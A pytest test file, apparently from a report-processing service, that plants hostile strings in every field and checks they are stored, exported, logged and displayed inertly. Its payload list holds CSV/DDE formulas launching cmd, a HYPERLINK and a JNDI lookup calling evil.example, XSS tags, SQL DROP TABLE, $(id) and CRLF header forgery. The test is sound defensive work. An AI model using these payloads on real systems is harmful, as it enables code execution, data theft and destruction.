"""Strings that mean harm, planted in every field: shown, stored and sent, and inert everywhere."""

import csv
import io
import json
import logging
import re
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta

import orjson
import pytest
from pydantic import SecretBytes

from services.commands.checks.clerk import text_lines
from services.commands.failures import _lines as failure_lines
from services.commands.running.tracking import Fate
from services.commands.talking.wording import fate_lines, say, say_json, table
from services.notify.core.notices import notice_of, signed
from services.pipeline import process
from services.sink.adapters.database import Database
from services.sink.adapters.export import csv_lines, export_lines
from services.sink.adapters.reviews import Reviews
from services.validate.core.telling import failures
from shared.contracts.events import ValidationFailed
from shared.contracts.parcel import Parcel
from shared.errors import BadInput
from shared.report.identity import document_id
from shared.report.issue import Evidence
from shared.report.neutral import neutral_terminal
from shared.report.printable import json_line, printable
from shared.report.record import Cell, Contact, Leftover, NarrativeFigure, Region, Section
from shared.runtime import logs
from shared.runtime.streams import envelope
from tests.services.sink import made
from tests.support import hostile
from tests.support.bus import MOMENT
from tests.support.hooks import SECRET as HOOK_SECRET

LONG = "长" * (2 << 20)
STRINGS = {
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "plus": "+1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "space": " =1+1",
    "wide": "＝1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "script": "<script>alert(1)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "markdown": "[点击](javascript:alert(1)) `x` | y |",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b[8m",
    "c1": "\x9b2Jx\x85y",
    "crlf": 'a\r\nNats-Msg-Id: forged\r\n\r\n{"level":"error"}',
    "jndi": "${jndi:ldap://evil.example/a}",
    "format": "%s%n{0}{file!r}$(id)`id`",
    "sql": "'; DROP TABLE documents; --",
    "nul": "a\x00b\\u0000\\\x00",
    "bidi": "\u202etxt.exe\u2066\u200f",
    "lines": "a\u2028b\u2029c",
    "bom": "\ufeffx",
    "astral": "💥\U0010ffff",
}
STEERING = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
RUNS = re.compile(r"\s*[=+\-@＝＋－＠\t\r\n]")

LONGEST_NAME = 16384
"""Of a file, in an event: a longer one is refused at the edge."""


def planted(text, n=1):
    """A judged report with the text in every field that a stranger's file can fill."""
    total = "applications.{}@total"
    cells = (
        Cell(total.format("granted"), "unreadable", None, text, text, notes=(text,)),
        Cell(total.format("received_new"), "number", -2, None, "-2"),
    )
    event = made.validated(
        n, cells=cells, file=text[:LONGEST_NAME], agency=text, agency_as_printed=text, title=text,
        region=Region(text, text, text, text, "330106"),
        contact=Contact(text, text, text, text),
        issues=(made.issue(f"r{n}", message_zh=text, message_en=text, expected=text, observed=text, difference=None,
                           formula=text, suggestion=text, evidence=(Evidence(text, text),)),),
    )  # fmt: skip
    record = replace(
        event.record,
        sections=(Section(1, text, text, text, 5),),
        figures=(NarrativeFigure(text, 20, text, text, 1, line=6, raw=text),),
        leftovers=(Leftover(text, 40, "applications", text),),
    )
    return event.model_copy(update={"record": record})


@pytest.fixture
def database(database_url):
    made_one = Database(database_url)
    made_one.migrate()
    yield made_one
    made_one.close()


def test_the_database_keeps_every_string_and_all_its_tables(database, database_url):
    reviews = Reviews(database_url)
    for n, text in enumerate(STRINGS.values()):
        event = planted(text, n)
        database.record(event)
        database.refuse(made.refused(100 + n, file=text, detail_zh=text, detail_en=text))
        database.bury(made.dead(200 + n, file=text, reason=text, payload=text, replay=text))
        database.alias(made.duplicate(n, f"{n}{text}"))
        database.expand(made.expanded(300 + n, text))
        decided = made_decision(event, text)
        reviews.decide(decided)
    reviews.close()

    lines = list(export_lines(database_url, shows_personal=True))

    assert len(lines) == 5 * len(STRINGS)
    shown = {line["title"] for line in lines if line["status"] == "recorded"}
    assert shown == set(STRINGS.values())
    notes = {i["decision"]["note"] for x in lines if x["status"] == "recorded" for i in x["issues"]}
    assert notes == {text.replace("\x00", "\ufffd") for text in shown}
    for line in lines:
        written = json_line(line)
        assert b"\n" not in written
        assert not STEERING.search(written.decode())
        assert orjson.loads(written) == line
    check_csv(database_url)


def made_decision(event, text):
    from shared.contracts.reviews import IssueDecided

    return IssueDecided(
        document_id=event.document_id, file=event.file, received_at=event.received_at,
        issue_id=event.issues[0].id, report_id=event.report_id, verdict="confirm", by=text, at=MOMENT, note=text,
    )  # fmt: skip


def check_csv(url):
    """No cell of the table runs, steers or breaks a line, and figures are figures."""
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(url)), newline="")))
    assert len(rows) == 2 * len(STRINGS)
    for row in rows:
        for name, value in row.items():
            if value and not re.fullmatch(r"-?\d+(\.\d+)?", value):
                assert not RUNS.match(value), (name, value)
            assert not STEERING.search(value or "")
    assert {r["value"] for r in rows if r["address"].startswith("applications.received_new")} == {
        "-2"
    }
    assert {r["raw"] for r in rows if r["address"].startswith("applications.received_new")} == {
        "-2"
    }


@pytest.mark.parametrize("text", STRINGS.values(), ids=STRINGS)
def test_people_at_a_terminal_see_one_harmless_line_for_each(capsys, text):
    event = planted(text)
    line = event_line(event)
    failed = failures(event, event.record, event.revision_id, event.issues)[0]
    told = orjson.loads(failed.model_dump_json())
    refused = neutral_terminal(text, "0" * 64, "refused", text, detail_zh=text, detail_en=text)
    said = [
        *text_lines(line), *text_lines(refused), *failure_lines(told, gone=True),
        *fate_lines(Fate("refused", text, "0", reason=text, detail_zh=text, detail_en=text)),
        *fate_lines(Fate("duplicate", text, "0", known_as=text)),
        *fate_lines(Fate("recorded", text, "0", agency=text, issues=tuple(line["issues"]))),
        *table([(text, "b"), ("c", text)]),
    ]  # fmt: skip
    for one in said:
        say(one)

    shown = capsys.readouterr().out

    assert shown.count("\n") == len(said)
    assert not STEERING.search(shown)


def event_line(event):
    from shared.report.neutral import neutral_report

    return neutral_report(
        event.record, event.issues, report_id=event.report_id, revision=event.revision_id
    )


@pytest.mark.parametrize("text", [*STRINGS.values(), "\ud800", "a\udcffb"])
def test_programs_get_json_that_says_the_same_on_one_line(capsys, text):
    say_json({"a": [text], text: 1})

    shown = capsys.readouterr().out

    assert shown.count("\n") == 1
    assert not STEERING.search(shown)
    assert json.loads(shown)["a"] == [re.sub("[\ud800-\udfff]", "\ufffd", text)]


@contextmanager
def logged(capfdbinary, style):
    """Log as a service does; yields a list of the lines."""
    lines: list[str] = []
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    try:
        logs.configure("test", style=style, level="INFO")
        yield lines
        lines += capfdbinary.readouterr().err.decode().splitlines(keepends=True)
    finally:
        root.handlers[:] = before
        root.setLevel(level)
        import structlog

        structlog.reset_defaults()


@pytest.mark.parametrize("style", ["json", "console"])
def test_a_log_line_is_one_line_whatever_is_in_it(capfdbinary, style):
    strings = [*STRINGS.values(), "\ud800", "a\udcffb", LONG]
    with logged(capfdbinary, style) as lines:
        for text in strings:
            logs.log(
                "info", "message.handled", file=text, published={text: 1}, notes=[text, (text,)],
                error=ValueError(text),
            )  # fmt: skip
            logging.getLogger("library").warning("%s", text)

    assert len(lines) == 2 * len(strings)
    for line in lines:
        assert line.endswith("\n")
        assert not STEERING.search(
            re.sub("\x1b\\[[0-9;]*m", "", line[:-1]) if style == "console" else line[:-1]
        )
        assert len(line) < 60_000
        if style == "json":
            assert json.loads(line)["service"] == "test"


@pytest.mark.parametrize("text", [*STRINGS.values(), LONG[:5000]])
def test_headers_of_events_and_webhooks_are_plain_ascii_of_one_line(text):
    event = planted(text)
    failed = failures(event, event.record, event.revision_id, event.issues)[0]
    assert isinstance(failed, ValidationFailed)
    refused = made.refused(1, file=text, detail_zh=text)
    letter = made.dead(1, file=text, reason=text, consumer=text)
    for one in (
        failed,
        refused,
        letter,
        # what the edge refuses is inert all the same
        letter.model_copy(update={"document_id": text}),
        failed.model_copy(update={"document_id": text, "revision_id": text}),
    ):
        headers = envelope.headers(one, source="validate", now=MOMENT)
        for name, value in headers.items():
            assert re.fullmatch(r"[\x21-\x7e]*", value), (name, value)
        assert envelope.decode(headers["ce-file"]) == text
        assert re.fullmatch("[A-Za-z0-9_.]+", envelope.subject(one))
        assert re.fullmatch("00-[0-9a-f]{32}-[0-9a-f]{16}-01", headers["traceparent"])
    body = failed.model_dump_json().encode()
    notice = notice_of(Parcel(envelope.headers(failed, source="validate", now=MOMENT), body))
    for value in signed(
        notice, [SecretBytes(HOOK_SECRET.encode())], MOMENT + timedelta(hours=1)
    ).values():
        assert re.fullmatch(r"[\x20-\x7e]+", value)
    assert b"\n" not in notice.body
    assert orjson.loads(notice.body)["data"]["title"] == text


def reading(data, name):
    """Return the line of a file, refused or not."""
    try:
        return process(data, name).neutral()
    except BadInput as error:
        return neutral_terminal(
            name, document_id(data), "refused", error.reason, detail_zh=error.detail_zh
        )


HALVES = {
    "text.txt": b"\xed\xa0\x80 \xed\xb2\x80 2023\xe5\xb9\xb4" + "年度报告\n一、总体情况\n".encode() * 5,
    "utf16.txt": "2023年政府信息公开工作年度报告\n".encode("utf-16-le") + b"\x00\xd8\x41\x00" * 5,
    "page.html": hostile.html("<h1>2023年政府信息公开工作年度报告&#xD800;&#56320;</h1><p>一、总体情况&#xDC00;&#0;</p>"),
    "word.docx": hostile.docx(hostile.body("<w:p><w:r><w:t>2023年报告_xD800_</w:t></w:r></w:p>")),
    "sheet.xlsx": hostile.xlsx(
        "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>2023年报告_xD800_ _x0000_</t></is></c></row></sheetData>"
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HALVES)
def test_no_reader_lets_half_a_character_through(name):
    line = reading(HALVES[name], name)

    orjson.dumps(line)


def test_long_strings_are_stored_and_shown_without_harm(tmp_path, capsys):
    database = Database(f"sqlite:///{tmp_path}/gouji.db")
    database.migrate()
    event = planted(LONG)

    database.record(event)

    (line,) = export_lines(f"sqlite:///{tmp_path}/gouji.db")
    assert line["title"] == LONG
    database.close()
    assert len(printable(LONG, 100)) < 120
